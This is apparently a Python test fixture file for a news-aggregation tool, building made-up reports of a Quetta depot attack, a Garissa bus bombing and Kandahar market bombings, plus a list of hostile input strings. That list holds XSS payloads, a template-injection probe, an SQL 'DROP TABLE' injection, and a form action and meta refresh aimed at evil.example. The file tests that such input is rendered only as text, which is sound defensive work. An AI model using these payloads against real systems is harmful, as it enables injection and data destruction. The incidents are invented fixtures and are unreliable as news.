"""Reports about made-up incidents, and texts that try to be more than text."""

from newsledger.documents import Page

# In the tiny language of tests/desk/telling.py, so that the rules of reading are no part of these tests.
SIEGE = (
    Page(
        "Gunmen storm depot\n\nGunmen stormed a police depot in Quetta on 2023-03-03 and left 3 killed and"
        " 9 injured among guards of Omar Khan.",
        "text/plain", "wire.txt", "wire-1", "https://wire.example/depot", "Gunmen storm depot in Quetta",
        "Border Wire", "2023-03-03",
    ),
    Page(
        "Toll rises\n\nGunmen who stormed the police depot in Quetta on 2023-03-03 left 4 killed and 11"
        " injured among guards of the depot, doctors say.",
        "text/plain", "herald.txt", "herald-1", "https://herald.example/toll", "Toll of depot attack rises",
        "Evening Herald", "2023-03-04",
    ),
)  # fmt: skip

BOMBING = (
    Page(
        "Bomb hits bus\n\nRoadside explosive under market coach in Garissa on 2022-06-12 with 5 killed and"
        " 7 injured passengers.",
        "text/plain", "post.txt", "post-1", "https://post.example/bus", "Bomb hits bus in Garissa",
        "Coast Post", "2022-06-12",
    ),
)  # fmt: skip

# Each tries something else; all of it has to be read as words.
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '"><svg onload=alert(3)>',
    "' onmouseover='alert(4)",
    "javascript:alert(5)",
    "<iframe srcdoc='<script>alert(6)</script>'></iframe>",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${alert(8)}",
    "</title><script>alert(9)</script>",
    "</textarea></form><form action=https://evil.example>",
    "<style>body{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "\u202ereversed\u202c and \u2066isolated\u2069",
    "'; DROP TABLE documents; --",
    "\x1b[31mred\x07",
    "<a href='data:text/html,<script>alert(10)</script>'>data</a>",
    "&lt;script&gt;alert(11)&lt;/script&gt;",
)

TRICKS = tuple(
    Page(
        f"Bomb hits market in Kandahar {trick}\n\n"
        f"KANDAHAR, Afghanistan, May {day} 2021 - A bomb hit a market in Kandahar on Monday, killing"
        f" {day} people, said {trick} police spokesman Omar {trick}. The {trick} group claimed it."
        f" {trick}",
        "text/plain", f"{day}.txt", f"trick-{day} {trick}", f"javascript:alert('{day}{trick}')",
        f"Bomb hits market {trick}", f"Outlet {trick}", f"2021-05-{day:02}",
    )
    for day, trick in enumerate(HOSTILE, 3)
)  # fmt: skip
